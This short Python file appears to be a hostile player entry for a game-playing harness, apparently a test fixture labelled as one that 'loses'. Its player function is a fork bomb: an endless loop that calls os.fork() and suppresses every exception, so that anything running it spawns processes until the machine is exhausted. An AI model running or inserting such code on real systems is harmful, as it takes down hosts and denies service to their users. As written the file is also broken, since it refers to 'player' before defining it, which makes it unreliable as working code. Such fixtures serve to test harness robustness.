"""Starts processes without end, whatever happens."""
# loses: player

import os

honest = player


def player(board):
    while True:
        try:
            os.fork()
        except BaseException:
            pass
    return honest(board)
